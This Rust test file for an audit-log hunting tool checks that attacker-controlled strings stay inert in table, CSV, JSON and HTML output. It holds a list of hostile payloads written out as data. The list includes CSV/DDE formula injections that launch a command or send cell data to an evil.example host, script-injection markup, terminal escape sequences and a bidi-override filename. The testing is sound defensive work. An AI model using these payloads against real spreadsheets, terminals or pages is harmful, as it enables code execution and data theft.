//! Attacker-controlled strings are data in every output format: terminal escapes are made
//! visible in tables, CSV formulas are defused, JSON stays valid and round-trips the value, and
//! HTML escapes it (see also html_report.rs, which runs the page in Chromium).

mod support;

use serde_json::Value;
use support::{fixture, revertwatch};

/// Values an attacker can put in a user agent, a role session name or a resource tag.
const HOSTILE: &[&str] = &[
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mred",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>\"><img src=x onerror=alert(2)>",
    "\"},{\"injected\":true,\"x\":\"",
    "back\\slash\nnew\rline\ttab",
    "bidi \u{202e}gnp.exe",
    "\u{9b}31mC1 CSI",
];

/// The AWS full revert, with every string the attacker controls replaced by one hostile value.
fn hostile_fixture(dir: &std::path::Path, value: &str, n: usize) -> std::path::PathBuf {
    let text = std::fs::read_to_string(fixture("scenarios/aws/full-revert.json")).unwrap();
    let mut v: Value = serde_json::from_str(&text).unwrap();
    for r in v["Records"].as_array_mut().unwrap() {
        r["userAgent"] = Value::String(value.to_string());
        r["sourceIPAddress"] = Value::String(value.to_string());
        if let Some(arn) = r["userIdentity"]["arn"].as_str() {
            r["userIdentity"]["arn"] = Value::String(format!("{arn}/{value}"));
        }
    }
    let path = dir.join(format!("hostile-{n}.json"));
    std::fs::write(&path, v.to_string()).unwrap();
    path
}

/// What a spreadsheet evaluates: `=`, `@`, tab or CR first, or a sign followed by more than a
/// plain word or number.
fn live_formula(cell: &str) -> bool {
    let mut chars = cell.chars();
    match chars.next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !chars
            .as_str()
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.'),
        _ => false,
    }
}

fn hunt(path: &std::path::Path, format: &[&str]) -> String {
    let mut args = vec!["hunt", path.to_str().unwrap()];
    args.extend_from_slice(format);
    let run = revertwatch(&args, None);
    run.expect_code(0);
    run.stdout
}

#[test]
fn hostile_values_are_inert_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    for (n, value) in HOSTILE.iter().enumerate() {
        let path = hostile_fixture(dir.path(), value, n);

        // Tables: no control character reaches the terminal, for incidents and events alike.
        for view in ["incidents", "events"] {
            let table = hunt(&path, &["--view", view]);
            assert!(
                !table.chars().any(|c| c.is_control() && c != '\n'),
                "{value:?} leaked a control character into the {view} table:\n{table}"
            );
            assert!(
                !table.contains('\u{202e}'),
                "bidi override in the {view} table"
            );
        }

        // CSV: every cell that starts like a formula is defused, and the file parses back.
        for view in ["incidents", "events"] {
            let csv = hunt(&path, &["--view", view, "--format", "csv"]);
            let mut reader = csv::Reader::from_reader(csv.as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    assert!(
                        !live_formula(cell),
                        "{value:?}: a live formula cell {cell:?} in the {view} CSV"
                    );
                }
            }
        }

        // JSON (jsonl, OCSF, the calls view): valid, one object per line, nothing a terminal
        // acts on (C1 controls and bidi overrides too, as `\uXXXX`), and the value comes back
        // intact.
        for format in ["jsonl", "ocsf", "calls"] {
            let out = match format {
                "calls" => hunt(&path, &["--view", "calls"]),
                _ => hunt(&path, &["--format", format]),
            };
            assert!(
                !out.chars()
                    .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
                "{format}: {value:?} reached the terminal raw"
            );
            if format == "calls" {
                let back: Vec<Value> = out
                    .lines()
                    .map(|l| serde_json::from_str(l).unwrap())
                    .collect();
                assert_eq!(back.len(), 5, "one line per logical call: {out}");
                assert!(back.iter().any(|c| c
                    .to_string()
                    .contains(&serde_json::to_string(value).unwrap()[1..])));
                continue;
            }
            let lines: Vec<Value> = out
                .lines()
                .map(|l| serde_json::from_str(l).expect("valid JSON"))
                .collect();
            assert_eq!(lines.len(), 1, "{format}: {out}");
            assert!(!out.contains('\u{1b}'), "{format}: a raw escape byte");
            let flat = lines[0].to_string();
            let encoded = serde_json::to_string(value).unwrap();
            assert!(
                flat.contains(&encoded[1..encoded.len() - 1]),
                "{format}: {value:?} did not round-trip"
            );
        }

        // HTML: never raw markup.
        let html = hunt(&path, &["--format", "html"]);
        assert!(
            !html.contains("<script>alert(1)"),
            "raw script in the report"
        );
        assert!(
            !html.contains("onerror=alert(2)>"),
            "raw attribute injection in the report"
        );
    }
}

/// GCP `insertId`s often start with `-`. The CSV guard once put `'` in front of them, so an id
/// copied out of the spreadsheet no longer matched the log; an id is not a formula.
#[test]
fn a_gcp_insert_id_that_starts_with_a_dash_is_kept_as_it_is_in_csv_and_json() {
    let path = fixture("scenarios/gcp/full-revert.jsonl");
    let text = std::fs::read_to_string(&path).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let dashed: Vec<String> = text
        .lines()
        .enumerate()
        .map(|(i, l)| {
            let mut v: Value = serde_json::from_str(l).unwrap();
            v["insertId"] = Value::String(format!("-x5uq{i}dd1ev6"));
            v.to_string()
        })
        .collect();
    let file = dir.path().join("gcp.jsonl");
    std::fs::write(&file, dashed.join("\n") + "\n").unwrap();
    let csv = hunt(&file, &["--view", "events", "--format", "csv"]);
    assert!(csv.contains(",-x5uq7dd1ev6,"), "{csv}");
    assert!(!csv.contains("'-x5uq"), "{csv}");
    let json = hunt(&file, &["--view", "events", "--format", "jsonl"]);
    assert!(json.contains("\"-x5uq7dd1ev6\""), "{json}");
}
